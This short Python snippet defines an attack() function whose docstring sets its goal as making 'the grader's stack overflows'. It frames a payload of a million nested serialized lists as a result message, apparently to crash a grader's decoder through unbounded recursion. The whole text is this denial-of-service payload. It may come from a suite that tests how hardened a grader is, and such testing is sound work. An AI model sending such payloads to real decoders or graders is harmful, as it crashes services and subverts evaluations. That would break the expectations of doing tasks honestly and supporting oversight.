"""Nest a million lists. Success: the grader's stack overflows."""


def attack():
    frame(RESULT, call_under_way(), b"l\1\0\0\0" * 1_000_000 + b"N")
